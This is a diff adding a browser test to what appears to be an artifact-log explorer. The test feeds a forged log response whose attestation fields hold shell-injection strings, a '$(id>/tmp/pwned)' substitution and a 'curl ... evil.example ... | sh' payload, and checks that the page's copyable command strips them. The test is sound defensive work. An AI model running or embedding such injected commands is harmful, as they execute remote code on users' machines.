@@ -107,6 +107,32 @@ def test_an_honest_artifact_page_verifies_and_draws_its_lineage(browser: Any, lo
         context.close()
 
 
+def test_the_pack_command_shown_carries_only_fingerprints_of_what_the_log_names(
+    browser: Any, log: ServerProcess
+) -> None:
+    """The roots a log names (its unsigned /api/v1/log) go into a command people copy: shell text in their place
+    is left out, and what is shown is said to be the log's word."""
+    proxy = TamperingProxy(log.url)
+
+    def lie(url: httpx.URL, answer: Any) -> Any:
+        if url.path != "/api/v1/log":
+            return answer
+        gpu = {"deviceRoot": "$(id>/tmp/pwned)", "rimRoot": {"not": "a string"}}
+        evil = {"simulated": True, "simulatedRoot": "0" * 64 + "; curl -s https://evil.example/x | sh #", "gpu": gpu}
+        return {**answer, "attestation": {**answer["attestation"], **evil}}
+
+    proxy.on_get = lie
+    context, page = _open(browser, f"{proxy.url}/explorer/artifact/{sha('m1')}?vkey={log.vkey}")
+    try:
+        _status(page)
+        command = page.locator("#verify-pack-command").inner_text()
+        assert "curl" not in command and "$(" not in command and "object" not in command, command
+        assert "--tdx-root" not in command  # no fingerprint named: nothing added
+    finally:
+        context.close()
+        proxy.close()
+
+
 def test_a_mistyped_link_is_said_to_be_one_and_nothing_is_offered(browser: Any, log: ServerProcess) -> None:
     """A digest one character off, a malformed digest, an entry past the tree, a page that does not exist: the
     reader's mistakes, said plainly in neutral colours, never a green page nor a red failure."""
